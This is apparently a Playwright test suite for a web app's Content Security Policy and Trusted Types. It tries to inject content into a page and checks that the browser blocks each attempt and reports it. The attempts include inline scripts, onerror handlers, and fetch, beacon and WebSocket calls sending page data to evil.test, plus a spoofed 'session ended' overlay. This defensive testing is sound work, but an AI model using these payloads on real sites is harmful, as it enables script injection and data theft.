// The content policy in a real browser: whatever an attacker would put on a page is refused, and we hear of it.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import { chromium, type Browser, type Page } from 'playwright-core'
import { findChromium } from '../setup/chromium.ts'
import { startDemo, type Demo } from '../setup/demo.ts'

let demo: Demo
let browser: Browser
let page: Page
let session = ''
before(async () => {
  demo = await startDemo()
  const args = ['--no-sandbox', '--disable-dev-shm-usage']
  browser = await chromium.launch({ executablePath: await findChromium(), args })
  session = await demo.session('manager')
  const context = await browser.newContext({ baseURL: demo.url, serviceWorkers: 'block' })
  await context.addCookies([{ name: 'pilothouse', value: session, url: demo.url, httpOnly: true }])
  page = await context.newPage()
})
// A browser that does not end must not keep the file from ending.
after(() => Promise.race([browser.close(), sleep(10_000, undefined, { ref: false })]))

/** Browsers that do not know Trusted Types yet are held by the rest of the policy alone: so is this page, for them. */
async function withoutTrustedTypes(): Promise<() => Promise<void>> {
  const pattern = '**/desk/incidents?*'
  await page.route(pattern, async (route) => {
    const answer = await route.fetch()
    const headers = answer.headers()
    const told = headers['content-security-policy'] ?? ''
    const kept = told.split('; ').filter((rule) => !rule.includes('trusted-types'))
    assert.equal(kept.length, told.split('; ').length - 2)
    await route.fulfill({ response: answer, headers: { ...headers, 'content-security-policy': kept.join('; ') } })
  })
  return () => page.unroute(pattern)
}
/** What was refused by now on this page, as the browser told the page itself. */
async function attacked(attack: string): Promise<string[]> {
  await page.goto('/desk/incidents?q=secretsearch')
  await page.getByRole('heading', { level: 1 }).first().waitFor()
  // Playwright's own evaluate is not held by the policy; what it puts on the page is.
  return page.evaluate(async (code) => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', (event) =>
      refused.push(`${event.effectiveDirective} ${event.blockedURI}`),
    )
    const act = new Function('document', 'window', code) as (d: Document, w: Window) => void
    try {
      act(document, window)
    } catch {
      // refused at once: what is looked for
    }
    await new Promise((done) => setTimeout(done, 400))
    return refused
  }, attack)
}
const add = (html: string): string => `
  const box = document.createElement('div'); box.innerHTML = ${JSON.stringify(html)}; document.body.append(box)`
const script = (text: string): string => `
  const s = document.createElement('script'); s.textContent = ${JSON.stringify(text)}; document.body.append(s)`

/** What is put on the page, and which rule refuses it. */
const attacks: readonly (readonly [name: string, code: string, rule: RegExp])[] = [
  ['a script in the page', script('window.hacked = 1'), /^script-src-elem inline/],
  [
    'a script of another server',
    `const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s)`,
    /^script-src-elem https:\/\/evil\.test/,
  ],
  [
    'a script of data',
    `const s = document.createElement('script'); s.src = 'data:text/javascript,window.hacked=1'; document.body.append(s)`,
    /^script-src-elem data/,
  ],
  [
    'a script of a blob',
    `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.hacked=1'])); document.body.append(s)`,
    /^script-src-elem blob/,
  ],
  ['a handler in an attribute', add('<img src=x onerror="window.hacked=1">'), /^script-src-attr inline/],
  [
    'a javascript: link',
    `const a = document.createElement('a'); a.href = 'javascript:window.hacked=1'; document.body.append(a); a.click()`,
    /^script-src-elem inline/,
  ],
  ['a style element', add('<style>body{display:none}</style>'), /^style-src-elem inline/],
  [
    'a style attribute',
    add('<p style="position:fixed;inset:0;background:red">Your session ended</p>'),
    /^style-src-attr inline/,
  ],
  [
    'a style sheet of another server',
    `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.test/x.css'; document.head.append(l)`,
    /^style-src-elem https:\/\/evil\.test/,
  ],
  ['a picture of another server', add('<img src="https://evil.test/track.png">'), /^img-src https:\/\/evil\.test/],
  ['a frame', add('<iframe src="https://evil.test/"></iframe>'), /^frame-src https:\/\/evil\.test/],
  ['a frame of ourselves', add('<iframe src="/login"></iframe>'), /^frame-src http/],
  ['an object', add('<object data="https://evil.test/x.swf"></object>'), /^object-src https:\/\/evil\.test/],
  [
    'a call to another server',
    `fetch('https://evil.test/?' + document.title, { mode: 'no-cors' }).catch(() => {})`,
    /^connect-src https:\/\/evil\.test/,
  ],
  ['a beacon', `navigator.sendBeacon('https://evil.test/', 'x')`, /^connect-src https:\/\/evil\.test/],
  ['a socket', `new WebSocket('wss://evil.test/')`, /^connect-src wss:\/\/evil\.test/],
  ['a worker', `new Worker(URL.createObjectURL(new Blob(['1'])))`, /^worker-src blob/],
  [
    'another base',
    `const b = document.createElement('base'); b.href = 'https://evil.test/'; document.head.append(b)`,
    /^base-uri https:\/\/evil\.test/,
  ],
  [
    'a form to another server',
    `${add('<form action="https://evil.test/" method="post"><input name="x"></form>')}; box.firstChild.submit()`,
    /^form-action https:\/\/evil\.test/,
  ],
]

describe('[ASVS 3.4.3] [ASVS 3.4.7] a page refuses', () => {
  for (const [name, code, rule] of attacks)
    it(name, async () => {
      const stop = await withoutTrustedTypes()
      const refused = await attacked(code).finally(stop)
      assert.ok(
        refused.some((one) => rule.test(one)),
        `refused: ${refused.join('; ') || 'nothing'}`,
      )
      assert.equal(await page.evaluate(() => 'hacked' in window), false)
    })
  const sinks: readonly (readonly [name: string, code: string])[] = [
    ['innerHTML', `document.body.innerHTML = '<b id="hacked">x</b>'`],
    ['outerHTML', `document.body.firstElementChild.outerHTML = '<b id="hacked">x</b>'`],
    ['insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', '<b id="hacked">x</b>')`],
    ['a fragment', `document.body.append(document.createRange().createContextualFragment('<b id="hacked">x</b>'))`],
    ['a parser', `document.body.append(new DOMParser().parseFromString('<b id="hacked">x</b>', 'text/html').body)`],
    ['a frame’s document', `const f = document.createElement('iframe'); f.srcdoc = '<b>x</b>'; f.id = 'hacked'; document.body.append(f)`],
    ['a handler by name', `const i = document.createElement('img'); i.setAttribute('onerror', '1'); i.id = 'hacked'; document.body.append(i)`],
    ['the address of a script', `const s = document.createElement('script'); s.src = '/assets/x.js'; s.id = 'hacked'; document.body.append(s)`],
  ] // oxfmt-ignore
  for (const [name, code] of sinks)
    it(`text that becomes HTML or a script by ${name}, whoever writes it`, async () => {
      const refused = await attacked(code)
      assert.ok(refused.some((one) => one.startsWith('require-trusted-types-for')), refused.join('; ') || 'nothing') // oxfmt-ignore
      assert.equal(await page.locator('#hacked').count(), 0)
    })
  it('a policy of another name, and ours a second time', async () => {
    for (const name of ['default', 'mine', 'pilothouse']) {
      const create = `trustedTypes.createPolicy('${name}', { createHTML: (x) => x }); document.body.id = 'hacked'`
      // Ours is made when the first Markdown is shown: here it is made once by the page, then by the attacker.
      const refused = await attacked(name === 'pilothouse' ? `trustedTypes.createPolicy('pilothouse', {}); ${create}` : create) // oxfmt-ignore
      assert.ok(refused.some((one) => one.startsWith('trusted-types')), `${name}: ${refused.join('; ') || 'nothing'}`) // oxfmt-ignore
      assert.equal(await page.locator('#hacked').count(), 0, name)
    }
  })
  it('[ASVS 1.3.2] text that is run as a program, also where Trusted Types are not known', async () => {
    // An event handler that the page itself registers runs under its policy, unlike the test's own code.
    const evaluated = (): Promise<string> =>
      page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', (event) =>
              resolve(`${event.effectiveDirective} ${event.blockedURI}`),
            )
            // oxlint-disable-next-line eslint/no-eval -- the attack itself
            setTimeout(() => (0, eval)('window.hacked = 1'), 0)
            setTimeout(() => resolve('nothing was refused'), 5000)
          }),
      )
    await page.goto('/desk/incidents?q=eval')
    assert.equal(await evaluated(), 'require-trusted-types-for trusted-types-sink')
    const stop = await withoutTrustedTypes()
    await page.goto('/desk/incidents?q=evaluated')
    assert.equal(await evaluated().finally(stop), 'script-src eval')
  })
  it('[ASVS 3.4.6] being framed by another site', async () => {
    const other = await browser.newPage()
    await other.setContent(`<iframe src="${demo.url}/login"></iframe>`)
    await sleep(500)
    const [, frame] = other.frames()
    assert.ok(frame === undefined || !/Pilothouse/.test(await frame.content()))
    await other.close()
  })
})

describe('[ASVS 3.4.7] what was refused', () => {
  it('is reported by the browser, counted and shown on the health page, without what was searched for', async () => {
    const cookie = `pilothouse=${session}`
    let value = ''
    for (let tries = 0; tries < 40 && !/\d+ reported/.test(value); tries++) {
      const answer = await fetch(`${demo.url}/api/v1/admin/health`, { headers: { cookie } })
      const { items = [] } = (await answer.json()) as { items?: { name: string; value: string }[] }
      value = items.find(({ name }) => name === 'Content policy')?.value ?? `status ${answer.status}`
      await sleep(250)
    }
    assert.match(value, /^\d+ reported since the start, the last: [a-z-]+ refused /)
    assert.doesNotMatch(value, /secretsearch/)
  })
})

describe('[ASVS 3.4.3] [ASVS 3.4.4] [ASVS 14.3.2] the files of the web application', () => {
  it('come with the same headers; only what carries its hash in its name is kept', async () => {
    const start = await fetch(demo.url, { headers: { accept: 'text/html' } })
    const html = await start.text()
    const script_ = /src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1] ?? ''
    const asset = await fetch(demo.url + script_)
    for (const answer of [start, asset]) {
      assert.equal(answer.status, 200)
      assert.match(
        answer.headers.get('content-security-policy') ?? '',
        /^default-src 'none'; script-src 'self'; style-src 'self';/,
      )
      assert.doesNotMatch(answer.headers.get('content-security-policy') ?? '', /unsafe|\*|https?:/)
      assert.equal(answer.headers.get('x-content-type-options'), 'nosniff')
      assert.equal(answer.headers.get('x-frame-options'), 'DENY')
    }
    assert.equal(start.headers.get('cache-control'), 'no-cache')
    assert.match(asset.headers.get('cache-control') ?? '', /immutable/)
    assert.doesNotMatch(html, /<script(?![^>]*src=)|<style|\son\w+=|style=/, 'nothing inline in the page itself')
  })
})
